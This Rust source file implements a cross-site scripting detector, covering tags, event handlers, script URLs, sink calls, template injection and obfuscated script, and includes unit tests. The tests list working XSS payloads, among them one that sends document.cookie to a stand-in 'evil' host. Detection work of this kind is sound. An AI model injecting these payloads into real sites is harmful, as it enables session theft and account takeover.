//! Cross-site scripting, read the way an HTML5 tokenizer and a browser's
//! URL and script parsers would: a tag that runs or loads script, an event
//! handler attribute (inside a tag or after breaking out of an attribute
//! value), a `javascript:`/`vbscript:`/`data:text/html` URL, a call of a
//! script sink after breaking out of a string, a template expression.
//! Text that merely mentions these (`onload event`, `javascript: the
//! good parts`, `<3`, `a < b`) does not fire.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

/// Tags that run script, load content or restyle the page by themselves.
fn dangerous_tag(name: &[u8]) -> bool {
    matches!(
        name,
        b"script"
            | b"iframe"
            | b"frame"
            | b"frameset"
            | b"object"
            | b"embed"
            | b"applet"
            | b"svg"
            | b"math"
            | b"style"
            | b"link"
            | b"meta"
            | b"base"
            | b"form"
            | b"isindex"
            | b"xml"
            | b"import"
            | b"xss"
            | b"portal"
            | b"bgsound"
            | b"layer"
            | b"ilayer"
            | b"vmlframe"
            | b"handler"
            | b"animate"
            | b"set"
            | b"template"
            | b"foreignobject"
            | b"xmp"
            | b"noscript"
            | b"plaintext"
    )
}

/// Elements whose injection changes what a page loads or submits, or
/// closes a context the page put the value in.
fn html_element(name: &[u8]) -> bool {
    matches!(
        name,
        b"img"
            | b"image"
            | b"body"
            | b"html"
            | b"head"
            | b"title"
            | b"textarea"
            | b"input"
            | b"button"
            | b"select"
            | b"option"
            | b"keygen"
            | b"video"
            | b"audio"
            | b"source"
            | b"track"
            | b"marquee"
            | b"blink"
            | b"details"
            | b"dialog"
            | b"canvas"
            | b"picture"
            | b"area"
            | b"map"
            | b"h1"
    )
}

pub fn detect(s: &[u8]) -> bool {
    tags(s) || handlers(s) || script_urls(s) || sinks(s) || template(s) || css(s) || jsfuck(s)
}

/// JSFuck: script written with `[]()!+` alone (`(![]+[])[+!+[]]`); no
/// text has a run of them this long.
fn jsfuck(s: &[u8]) -> bool {
    // Bits: 1 `[`, 2 `]`, 4 `!`, 8 `+`, 16 `(` or `)`.
    let (mut run, mut seen) = (0, 0u8);
    for &c in s {
        let bit = match c {
            b'[' => 1,
            b']' => 2,
            b'!' => 4,
            b'+' => 8,
            b'(' | b')' => 16,
            _ => {
                (run, seen) = (0, 0);
                continue;
            }
        };
        run += 1;
        seen |= bit;
        // All of `[]!+` in the run: `!!!!!!` or `(((...)))` is text.
        if run >= 24 && seen & 15 == 15 {
            return true;
        }
    }
    false
}

fn is_name(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'-' | b':' | b'_')
}

/// `<tag ...>`: a dangerous tag, or any tag whose attributes hold a
/// handler or a script URL.
fn tags(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'<', &s[from..]) {
        let lt = from + p;
        from = lt + 1;
        let mut j = lt + 1;
        if s.get(j) == Some(&b'/') {
            j += 1;
        }
        if s.get(j) == Some(&b'?') {
            // IE's processing instructions that load behaviours.
            let rest = &s[j + 1..];
            if rest.starts_with(b"import")
                || rest.starts_with(b"xml-stylesheet")
                || rest.starts_with(b"xml:namespace")
            {
                return true;
            }
            continue;
        }
        if s.get(j) == Some(&b'!') {
            // XML declarations that pull content: `<!ENTITY x SYSTEM`,
            // `<!DOCTYPE x [`, `<!ATTLIST`.
            let rest = &s[j + 1..];
            if rest.starts_with(b"entity")
                || rest.starts_with(b"attlist")
                || rest.starts_with(b"doctype") && rest.contains(&b'[')
            {
                return true;
            }
            continue;
        }
        if !s.get(j).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let start = j;
        while j < s.len() && is_name(s[j]) {
            j += 1;
        }
        let name = &s[start..j];
        // Namespaced names (`<svg:circle>`, `<xsl:template>`,
        // `<html:script>`): the prefix or the local name decides.
        let (prefix, local) = match memchr::memchr(b':', name) {
            Some(c) => (&name[..c], &name[c + 1..]),
            None => (name, name),
        };
        if dangerous_tag(name)
            || dangerous_tag(local)
            || matches!(prefix, b"svg" | b"xsl" | b"xml" | b"math" | b"xhtml")
        {
            return true;
        }
        // The tag's attributes: up to the next `>` (or the end, as a
        // browser would keep reading the page's own markup).
        let end = memchr::memchr(b'>', &s[j..]).map_or(s.len(), |p| j + p);
        let attrs = &s[j..end];
        if attrs.is_empty() {
            continue;
        }
        if handler_in(attrs, true) || scheme_in(attrs) || style_in(attrs) || data_attr(attrs) {
            return true;
        }
        // Markup injection, the first step of many XSS probes: a complete
        // element that loads content, builds a form or closes the
        // document's or a raw-text context (`<img src=...>`, `<input`,
        // `</title>`, `</textarea>`). Links and formatting (`<a href>`,
        // `<b>`, `<br />`) do occur in real values and stay quiet.
        let closing = s[lt + 1] == b'/';
        let complete = end < s.len()
            && (attrs.contains(&b'=')
                || attrs.iter().all(|c| c.is_ascii_whitespace() || *c == b'/'));
        if html_element(name) && (complete || !closing && attrs.contains(&b'=')) {
            return true;
        }
    }
    false
}

/// An `on...=` attribute. Inside a tag any separator before it counts;
/// elsewhere (`inside_tag` false) it must follow a quote that closes an
/// attribute value (`" onmouseover=`), or its value must be script.
fn handler_in(s: &[u8], inside_tag: bool) -> bool {
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&s[from..], b"on") {
        let at = from + p;
        from = at + 2;
        let before = if at == 0 { None } else { Some(s[at - 1]) };
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'-') {
            continue;
        }
        let mut j = at + 2;
        while j < s.len() && s[j].is_ascii_alphabetic() {
            j += 1;
        }
        if j - at < 5 {
            continue;
        }
        let mut k = j;
        while k < s.len() && s[k].is_ascii_whitespace() {
            k += 1;
        }
        if s.get(k) != Some(&b'=') {
            continue;
        }
        if inside_tag {
            return true;
        }
        // Broke out of a quoted attribute: a quote, then separators only.
        let mut b = at;
        while b > 0 && (s[b - 1].is_ascii_whitespace() || s[b - 1] == b'/') {
            b -= 1;
        }
        if b < at && b > 0 && matches!(s[b - 1], b'"' | b'\'' | b'`') {
            return true;
        }
        if script_value(&s[k + 1..]) {
            return true;
        }
    }
    false
}

fn handlers(s: &[u8]) -> bool {
    handler_in(s, false)
}

/// An attribute value that is script: a sink call, `javascript:`, or an
/// identifier call right at its start (`=alert(1)`, `="x()"`).
fn script_value(v: &[u8]) -> bool {
    let mut i = 0;
    while i < v.len() && (v[i].is_ascii_whitespace() || matches!(v[i], b'"' | b'\'' | b'`')) {
        i += 1;
    }
    let v = &v[i..];
    let mut j = 0;
    while j < v.len() && (v[j].is_ascii_alphanumeric() || matches!(v[j], b'_' | b'$' | b'.')) {
        j += 1;
    }
    j > 0 && matches!(v.get(j), Some(b'(' | b'`' | b'[' | b'=')) || sinks(v) || script_urls(v)
}

/// `javascript:`, `vbscript:`, `livescript:` (with tabs and newlines
/// inside, which URL parsers drop), `data:text/html` and kin.
fn script_urls(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = memchr::memchr(b':', &s[from..]) {
        let colon = from + p;
        from = colon + 1;
        // The scheme before the colon, skipping tab/newline/CR.
        let mut buf = [0u8; 16];
        let mut n = 0;
        let mut i = colon;
        while i > 0 && n < buf.len() {
            let c = s[i - 1];
            if matches!(c, b'\t' | b'\n' | b'\r') {
                i -= 1;
                continue;
            }
            if !c.is_ascii_alphabetic() {
                break;
            }
            buf[buf.len() - 1 - n] = c;
            n += 1;
            i -= 1;
        }
        let scheme = &buf[buf.len() - n..];
        let after = s.get(colon + 1).copied();
        let script = matches!(
            scheme,
            b"javascript" | b"vbscript" | b"livescript" | b"mocha"
        ) || scheme.ends_with(b"javascript") && n <= 16;
        if script && after.is_some_and(|c| !c.is_ascii_whitespace()) && !no_op(&s[colon + 1..]) {
            return true;
        }
        if scheme == b"data" {
            let rest = &s[colon + 1..];
            let rest = &rest[rest.iter().take_while(|c| c.is_ascii_whitespace()).count()..];
            for t in [
                &b"text/html"[..],
                b"image/svg",
                b"application/x-javascript",
                b"application/javascript",
                b"text/javascript",
                b"application/xhtml",
                b"text/xml",
                b"application/xml",
                b",alert",
                b",<",
            ] {
                if rest.starts_with(t) {
                    return true;
                }
            }
        }
    }
    false
}

/// `javascript:;`, `javascript:void(0)`: the links that do nothing, which
/// pages and their analytics beacons carry everywhere. The code ends at
/// the attribute's end (a quote or `>`); anything after the no-op is code
/// (`void(0);alert(1)`, `void(0) ;fetch(...)`, `false&fetch(...)`).
fn no_op(code: &[u8]) -> bool {
    let end = code
        .iter()
        .position(|c| matches!(c, b'"' | b'\'' | b'>' | b'<'))
        .unwrap_or(code.len());
    let code = code[..end].trim_ascii_end();
    matches!(
        code,
        b";" | b";;"
            | b"void(0)"
            | b"void(0);"
            | b"void(null)"
            | b"void(null);"
            | b"void0"
            | b"false"
            | b"false;"
            | b"undefined"
            | b"undefined;"
    )
}

/// Inside a tag a script URL may be split by whitespace and control
/// characters anywhere (`j\na\nv\na...:\nalert`): they are dropped first.
fn scheme_in(attrs: &[u8]) -> bool {
    if script_urls(attrs) {
        return true;
    }
    if !attrs.iter().any(|c| matches!(c, b'\t' | b'\n' | b'\r')) {
        return false;
    }
    let mut buf = [0u8; 256];
    let mut n = 0;
    for &c in attrs.iter().filter(|c| !matches!(c, b'\t' | b'\n' | b'\r')) {
        if n == buf.len() {
            break;
        }
        buf[n] = c;
        n += 1;
    }
    script_urls(&buf[..n])
}

/// Attributes that load or run content whatever their value:
/// `srcdoc`, IE's data binding (`datasrc`, `dataformatas`), `formaction`.
fn data_attr(attrs: &[u8]) -> bool {
    [&b"srcdoc"[..], b"datasrc", b"dataformatas", b"formaction"]
        .iter()
        .any(|a| {
            memchr::memmem::find_iter(attrs, a).any(|p| {
                (p == 0 || !attrs[p - 1].is_ascii_alphanumeric())
                    && attrs[p + a.len()..]
                        .iter()
                        .find(|c| !c.is_ascii_whitespace())
                        == Some(&b'=')
            })
        })
}

/// CSS that runs script (old IE and Firefox): in a tag's attributes or
/// anywhere as these exact constructs.
fn style_in(attrs: &[u8]) -> bool {
    let style = memchr::memmem::find(attrs, b"style").is_some();
    style
        && ["url(", "binding", "behavio", "@import"]
            .iter()
            .any(|n| memchr::memmem::find(attrs, n.as_bytes()).is_some())
        || memchr::memmem::find(attrs, b"expression(").is_some()
        || memchr::memmem::find(attrs, b"url(javascript").is_some()
        || memchr::memmem::find(attrs, b"url('javascript").is_some()
        || memchr::memmem::find(attrs, b"url(\"javascript").is_some()
}

fn css(s: &[u8]) -> bool {
    memchr::memmem::find(s, b"-moz-binding").is_some()
        || memchr::memmem::find(s, b"behavior:url(").is_some()
        || memchr::memmem::find(s, b"behavior: url(").is_some()
        || (memchr::memmem::find(s, b"style=").is_some() && style_in(s))
}

const CALLS: [&str; 12] = [
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "execscript",
    "msgbox",
    "fromcharcode",
    "document.write",
    "document.writeln",
    "constructor.constructor",
];
const PROPS: [&str; 12] = [
    "document.cookie",
    "document.domain",
    "document.location",
    "window.location",
    "location.href=",
    "location.hash",
    ".innerhtml=",
    "document.body.appendchild",
    "document.createelement(",
    "window.open(",
    "window.name",
    "import(",
];
const GLOBALS: [&str; 7] = [
    "top[",
    "self[",
    "window[",
    "parent[",
    "this[",
    "globalthis[",
    "frames[",
];

/// One automaton for every sink, property and global name: a value is
/// scanned once, whatever the number of names.
fn sink_automaton() -> Option<&'static AhoCorasick> {
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    AC.get_or_init(|| {
        let all: Vec<&str> = CALLS
            .iter()
            .chain(&PROPS)
            .chain(&GLOBALS)
            .copied()
            .collect();
        AhoCorasick::new(all).ok()
    })
    .as_ref()
}

/// Calls of script sinks: `alert(1)`, `prompt\`1\``, `(alert)(1)`,
/// `[1].find(alert)`, `top['alert']`, `document.cookie`, ...
fn sinks(s: &[u8]) -> bool {
    let Some(ac) = sink_automaton() else {
        return false;
    };
    for m in ac.find_overlapping_iter(s) {
        let id = m.pattern().as_usize();
        let (at, end) = (m.start(), m.end());
        if id < CALLS.len() {
            if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
                continue;
            }
            match s.get(end) {
                // `eval()` with nothing to run is prose (a post's title),
                // not script; `alert()` still pops a box.
                Some(b'(') if CALLS[id] == "eval" && s.get(end + 1) == Some(&b')') => {}
                Some(b'(' | b'`') => return true,
                // `(alert)(1)`, `.find(alert)`, `[alert][0]`
                Some(b')' | b']') if at > 0 && matches!(s[at - 1], b'(' | b'[') => return true,
                // `a=alert,a(1)`
                Some(b',' | b';') if at > 0 && s[at - 1] == b'=' => return true,
                // `alert.call(null,1)`, `confirm.apply(null,[1])`, `alert?.(1)`
                Some(b'.' | b'?')
                    if [&b".call("[..], b".call`", b".apply(", b".bind(", b"?.("]
                        .iter()
                        .any(|p| s[end..].starts_with(p)) =>
                {
                    return true
                }
                // ``[].sort.call`${alert}1337` ``: a sink handed to a tag.
                Some(b'}') if at >= 2 && &s[at - 2..at] == b"${" => return true,
                // `alert /**/ (1)`
                Some(b' ' | b'/') => {
                    let rest = &s[end..];
                    let i = rest
                        .iter()
                        .take_while(|c| matches!(c, b' ' | b'/' | b'*'))
                        .count();
                    if rest.get(i) == Some(&b'(') && rest[..i].contains(&b'*') {
                        return true;
                    }
                }
                _ => {}
            }
        } else if id < CALLS.len() + PROPS.len() {
            return true;
        } else {
            // `top['al'+'ert'](1)`, `self["alert"](1)`, `top[8680439..toString(30)](1)`
            if at > 0 && s[at - 1].is_ascii_alphanumeric() {
                continue;
            }
            if matches!(s.get(end), Some(b'\'' | b'"' | b'`' | b'/')) {
                return true;
            }
            let rest = &s[end..];
            if let Some(close) = rest.iter().take(48).position(|c| *c == b']') {
                if rest.get(close + 1) == Some(&b'(') {
                    return true;
                }
            }
        }
    }
    false
}

/// Client-side template injection: `{{constructor.constructor('...')()}}`,
/// `{{$on.constructor(...)}}`, `{{$eval(...)}}`.
fn template(s: &[u8]) -> bool {
    let Some(p) = memchr::memmem::find(s, b"{{") else {
        return false;
    };
    let rest = &s[p..];
    let end = memchr::memmem::find(rest, b"}}").map_or(rest.len(), |e| e);
    let body = &rest[..end];
    [
        &b"constructor"[..],
        b"$on",
        b"$eval",
        b"alert",
        b"prompt",
        b"confirm",
        b"$emit",
        b"[].pop",
        b"tostring()",
    ]
    .iter()
    .any(|n| memchr::memmem::find(body, n).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn xss(s: &str) -> bool {
        detect(s.to_ascii_lowercase().as_bytes())
    }

    #[test]
    fn vectors() {
        for p in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=prompt(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "javascript:alert(1)",
            "jav\tascript:alert(1)",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "<body onload=alert(1)>",
            "<iframe src=data:text/html;base64,PHNjcmlwdD4=>",
            "data:text/html,<script>alert(1)</script>",
            "<div style=\"width:expression(alert(1))\">",
            "{{constructor.constructor('alert(1)')()}}",
            "<x onclick=alert(1)>click",
            "[1].find(alert)",
            "top['al'+'ert'](1)",
            "<details open ontoggle=confirm`1`>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=\"x\" onerror=\"document.location='http://evil/?c='+document.cookie\">",
        ] {
            assert!(xss(p), "missed {p:?}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "<3 valentines",
            "a < b and c > d",
            "onload event",
            "javascript: the good parts",
            "java script tutorial",
            "alert sound iphone",
            "<b>bold</b>",
            "https://example.com/a?b=c",
            "onion=3",
            "regular expression",
            "document.pdf",
            "mailto:a@example.com",
            "data:image/png;base64,iVBORw0KGgo=",
            "{\"a\":\"b\"}",
            "x < 10",
            "/blog/python-eval()-considered-harmful",
        ] {
            assert!(!xss(b), "false positive {b:?}");
        }
    }
}
